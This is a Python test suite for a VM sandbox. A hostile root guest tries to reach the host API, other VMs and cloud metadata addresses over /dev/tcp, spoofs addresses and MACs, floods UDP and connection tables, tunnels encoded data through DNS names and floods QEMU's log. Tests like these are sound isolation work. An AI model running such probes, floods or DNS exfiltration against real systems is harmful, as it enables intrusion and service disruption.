# SPDX-License-Identifier: Apache-2.0
"""A guest that tries to escape: the host's API, other slots, metadata addresses, another's address, tables filled up, names as a tunnel; and one that makes QEMU talk

What must not be reached is there and would answer. ARP and addresses inside a VPC are in test_vpc.py.
"""
import os
import re
import signal
import threading

import host
from case import ApiError, Case, limit, long, wait_for
from world import DNS, NET, World

ONE = f"{NET}.10"
KNOCK = "timeout 6 bash -c 'exec 3<>/dev/tcp/{}/{} && echo in' 2>&1"


class HostileGuest(Case):
    limit_s = 150

    @classmethod
    def setUpClass(cls):
        cls.world = World()
        cls.catcher = host.Listener()
        try:
            cls.world.open()
            cls.server_env = {"PANDO_RESOLVER": DNS}
            super().setUpClass()
            cls.vm = cls.s.create()
            cls.victim = cls.s.create(name="victim")
        except BaseException:
            cls.world.close()
            raise

    @classmethod
    def tearDownClass(cls):
        cls.catcher.sock.close()
        super().tearDownClass()
        cls.world.close()

    def put(self, policy):
        return self.s.api("PUT", f"/v1/vms/{self.vm}/egress", policy)

    def slots(self):
        found = re.findall(rf"pn{self.s.tag}-\d+\s+inet (\d+\.\d+\.\d+\.)(\d+)/", host.output("ip", "-o", "-4", "addr"))
        return [f"{net}{int(last) + k}" for net, last in found for k in (0, 1)]

    def test_the_host_and_other_slots(self):
        addresses = set(self.slots()) | {"127.0.0.1", "10.0.0.1", "192.0.2.1", "169.254.169.254", "100.100.100.200"}
        addresses |= set(re.findall(r"inet (\d+\.\d+\.\d+\.\d+)/", host.output("ip", "-o", "-4", "addr")))
        self.s.sh(self.victim, "setsid python3 -m http.server 8123 >/dev/null 2>&1 </dev/null &")
        # one command for all of them: each shell is slow in an emulated guest
        script = "".join(f"(timeout 5 bash -c 'exec 3<>/dev/tcp/{a}/{p} && echo reached {a} {p}' 2>/dev/null) &\n"
                         for a in sorted(addresses) for p in (self.s.port, self.catcher.port, 8123, 22)
                         if not a.startswith("127."))
        out = self.s.run(self.vm, script + "wait", timeout_ms=120000).out
        self.assertEqual(out.strip(), "")
        self.assertEqual(self.catcher.seen, [])

    def test_routes_and_addresses_of_its_own(self):
        """Another source address, another MAC, routes around the rules: root in the guest may try them all."""
        self.s.sh(self.vm, "d=$(ip -o -4 addr show to 10.0.0.2/32 | awk '{print $2; exit}')\n"
                  "ip addr add 10.0.0.3/30 dev $d; ip addr add 192.0.2.99/32 dev $d\n"
                  f"ip route add {self.slots()[0]}/32 via 10.0.0.1 src 192.0.2.99\n"
                  f"timeout 4 ping -c 2 -W 1 -I 192.0.2.99 {ONE}; timeout 4 ping -c 2 -W 1 -I 10.0.0.3 {ONE}\n"
                  "ip link set $d down; ip link set $d address 02:50:4e:44:4f:99; ip link set $d up\n"
                  "ip route replace default via 10.0.0.1\n"
                  f"timeout 4 ping -c 2 -W 1 {ONE}; timeout 3 bash -c 'exec 3<>/dev/tcp/{ONE}/9000'\n"
                  "ip link set $d down; ip link set $d address 02:50:4e:44:4f:02; ip link set $d up\n"
                  "ip addr del 10.0.0.3/30 dev $d; ip addr del 192.0.2.99/32 dev $d; ip route replace default via 10.0.0.1; true",
                  timeout_ms=90000)
        self.assertEqual(self.world.asked(echo=9000), [])
        # and with its own again it works
        wait_for("its own address works", lambda: "in" in self.s.run(self.vm, KNOCK.format(ONE, 9000)).out, 60, 1)

    @limit(240)
    def test_tables_filled_up(self):
        """Endless flows and ports: only the guest's own run out, and it recovers."""
        self.put({"mode": "rules", "rules": [{"action": "allow", "domain": "one.test"}, {"action": "allow", "cidr": f"{NET}.0/24"}]})
        self.s.sh(self.vm, "cat >/root/flood.py <<'E'\nimport socket,time\n"
                  "u=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n"
                  "end=time.time()+12\nn=0\n"
                  "while time.time()<end:\n"
                  f" try: u.sendto(b'x',('{ONE}',1+n%65000)); u.sendto(b'x',('{NET}.'+str(60+n%150),1+n%65000))\n"
                  " except OSError: pass\n n+=1\n"
                  "print(n)\nE\n"
                  "cat >/root/hold.py <<'E'\nimport socket,time\nheld=[]\nend=time.time()+12\n"
                  "while time.time()<end and len(held)<700:\n"
                  " s=socket.socket(); s.setblocking(False)\n"
                  f" s.connect_ex(('{ONE}',443)); held.append(s)\n"
                  "print(len(held)); time.sleep(3)\nE\n"
                  "ulimit -n 4096; python3 /root/flood.py & python3 /root/hold.py; wait", timeout_ms=120000)
        self.assertEqual(self.s.api("GET", "/v1/health")["status"], "ok")
        self.assertIn("in", self.s.sh(self.victim, KNOCK.format(ONE, 9000)), "another guest suffers")
        self.assertIn("hello", self.s.sh(self.victim, "curl -sS -m 30 http://one.test/"))
        wait_for("it recovers", lambda: "hello" in self.s.run(self.vm, "curl -sS -m 15 http://one.test/").out, 120, 2)

    def test_no_tunnel_through_names(self):
        self.put({"mode": "closed"})
        before = len(self.world.seen())
        self.s.run(self.vm, "for n in c2VjcmV0.tunnel.test one.test _x.tunnel.test; do getent hosts $n; done\n"
                   "python3 - <<'E'\nimport socket,struct\n"
                   "def ask(kind,name,to):\n"
                   " q=struct.pack('>HHHHHH',7,0x100,1,0,0,0)+b''.join(bytes([len(l)])+l for l in name)+b'\\0'+struct.pack('>HH',kind,1)\n"
                   " s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(1)\n"
                   " try: s.sendto(q,(to,53)); print(s.recv(99)[3]&15)\n"
                   " except OSError as e: print(e)\n"
                   "for kind in (1,16,28,255,10): ask(kind,[b'\\x00\\xffdata',b'tunnel',b'test'],'10.0.0.1')\n"
                   f"ask(16,[b'direct',b'tunnel',b'test'],'{DNS}')\n"
                   "t=socket.create_connection(('10.0.0.1',53),3); t.settimeout(3)\n"
                   "q=struct.pack('>HHHHHH',7,0x100,1,0,0,0)+b'\\x03tcp\\x06tunnel\\x04test\\0'+struct.pack('>HH',16,1)\n"
                   "t.sendall(struct.pack('>H',len(q))+q); print(t.recv(99)[5]&15)\nE\n")
        self.assertEqual([e for e in self.world.seen()[before:]], [], "a name got out")
        self.put({"mode": "rules", "rules": [{"action": "allow", "domain": "one.test"}]})
        self.assertIn(ONE, self.s.sh(self.vm, "getent ahostsv4 one.test"))
        self.s.run(self.vm, "getent hosts data.one.test; getent hosts data.tunnel.test")
        self.assertEqual({e["dns"] for e in self.world.seen()[before:] if "dns" in e}, {"one.test"})

    def test_the_proxy_is_no_way_in(self):
        """The proxy's port cannot be reached directly."""
        self.assertNotIn("in\n", self.s.run(self.vm, KNOCK.format("10.0.0.1", 3129)).out)
        # garbage, silence and half a handshake end, and the next connection works
        self.s.run(self.vm, "getent hosts one.test; for i in 1 2 3; do head -c 3000 /dev/urandom | timeout 4 bash -c "
                   "'cat >/dev/tcp/one.test/443'; printf '\\x16\\x03\\x01\\x40\\x00' | timeout 2 bash -c 'cat >/dev/tcp/one.test/443'; done")
        self.assertIn("hello", self.s.sh(self.vm, "curl -ksS -m 30 https://one.test/"))

    def test_zz_leaves_nothing_behind(self):
        self.world.close()
        super().test_zz_leaves_nothing_behind()


LOG_CUT = 1 << 20      # pandod cuts QEMU's messages beyond so many bytes (engine/guestlog.c)
LOG_MAX = 2 << 20      # and QEMU cannot write more than that
FILE_END = 3 << 40     # PRIV_FILE_MAX of wire/priv.h
REST = 256 << 10       # what else may grow on the host meanwhile
FLOOD_S = 600          # or until the VM is ended, which is what happens


class FloodOfMessages(Case):
    """Root in a guest drives its serial device by hand and sends control messages that QEMU complains about, one line each, as fast as it can (guest_serial.py)."""
    limit_s = 240

    def written(self):
        """Bytes on the host's disk below the data directory's run/ and in the server's log; disks and memory of VMs are elsewhere."""
        files = [os.path.join(top, name) for top, _, names in os.walk(os.path.join(self.s.dir, "run")) for name in names]
        return sum(os.lstat(f).st_blocks * 512 for f in [*files, self.s.log_path] if os.path.lexists(f))

    def size(self):
        st = os.stat(self.log)
        self.assertLessEqual(st.st_size, FILE_END, "QEMU's log went past its end")
        return st.st_blocks * 512

    def writes(self):
        """How often QEMU has written anything, with or without success."""
        with open(f"/proc/{self.qemu}/io") as f:
            return int(re.search(r"syscw: (\d+)", f.read())[1])

    def flood(self, seconds=FLOOD_S):
        """Begins it in a new VM; the command is never answered, since its device is gone."""
        self.vm = self.s.create()
        self.s.sh(self.vm, "echo kept >/root/kept; sync")
        with open(os.path.join(os.path.dirname(os.path.abspath(__file__)), "guest_serial.py")) as f:
            self.s.api("PUT", f"/v1/vms/{self.vm}/files/%2Froot%2Fflood.py", {"content": f.read(), "encoding": "utf8"})
        self.log = os.path.join(self.s.dir, "run", self.s.info(self.vm)["vmInstanceId"], "qemu.log")
        self.qemu = self.s.qemu_of(self.vm)
        self.ended = []

        def call():
            try:
                r = self.s.run(self.vm, f"exec python3 /root/flood.py {seconds} 2>&1", timeout_ms=FLOOD_S * 1000)
                self.ended.append(f"the flood ended: {r.code} {r.out}")
            except ApiError as e:
                self.ended.append(e)
        self.caller = threading.Thread(target=call, daemon=True)
        self.caller.start()

    def await_cut(self):
        most = 0

        def cut():
            nonlocal most
            self.assertFalse(self.ended, self.ended)
            size = self.size()
            most, seen = max(most, size), most
            return seen > LOG_CUT and size < seen
        wait_for("QEMU's messages were cut", cut, 60, 0.02)
        wait_for("they begin again", lambda: "virtio-serial-bus: " in self.tail(), 60)

    def kill(self):
        self.s.post(self.vm, "kill")
        self.caller.join(60)
        self.assertTrue(self.ended and isinstance(self.ended[0], ApiError), f"the command of a VM that was killed: {self.ended}")
        self.assertFalse(os.path.exists(self.log))
        self.assertEqual(self.s.state(self.vm), "stopped")

    def tail(self):
        with open(self.log, "rb") as f:
            f.seek(-min(4096, os.stat(self.log).st_size), os.SEEK_END)
            return f.read().decode(errors="replace")

    def test_qemu_talks_without_end(self):
        other = self.s.create(name="other")
        before = self.written()
        self.flood()
        self.await_cut()

        # while pandod cannot cut them: the kernel holds the bound
        pandod = self.s.pandod_pid()
        os.kill(pandod, signal.SIGSTOP)
        try:
            wait_for("they are as long as they can be", lambda: os.stat(self.log).st_size >= FILE_END - 200, 60, 0.05)
            full = self.writes()
            wait_for("QEMU tries to write more", lambda: self.writes() > full + 5000, 60)
            self.assertLessEqual(self.size(), LOG_MAX + 8192)
            self.assertLessEqual(self.written() - before, LOG_MAX + REST)
        finally:
            os.kill(pandod, signal.SIGCONT)
        wait_for("pandod cuts them again", lambda: self.size() < LOG_CUT, 30, 0.02)
        self.assertEqual(self.s.pandod_pid(), pandod)

        # meanwhile nobody else notices
        self.assertEqual(self.s.api("GET", "/v1/health")["status"], "ok")
        self.assertEqual(self.s.sh(other, "echo alive"), "alive")
        third = self.s.create()
        self.assertEqual(self.s.sh(third, "echo alive"), "alive")
        self.assertEqual(self.s.state(self.vm), "running")
        self.assertFalse(self.ended, self.ended)
        self.assertEqual(self.s.qemu_of(self.vm), self.qemu)

        # it is ended as any other, and nothing of it stays
        self.kill()
        self.assertLessEqual(self.written() - before, REST)

    @limit(300)
    @long
    def test_it_is_a_vm_like_any_other_again(self):
        """With its device back the agent answers in the same machine; killed in the middle of it, the VM boots and has its disk."""
        self.flood(seconds=15)
        self.await_cut()

        def answers():
            try:
                return self.s.run(self.vm, "cat /root/kept", timeout_ms=20000).out.strip() == "kept"
            except ApiError:
                return False
        wait_for("the agent answers again", answers, 90, 1)
        self.assertEqual(self.s.qemu_of(self.vm), self.qemu)
        self.s.delete(self.vm)
        self.flood()
        self.await_cut()
        self.kill()
        self.assertEqual(self.s.sh(self.vm, "cat /root/kept", timeout_ms=110000), "kept")
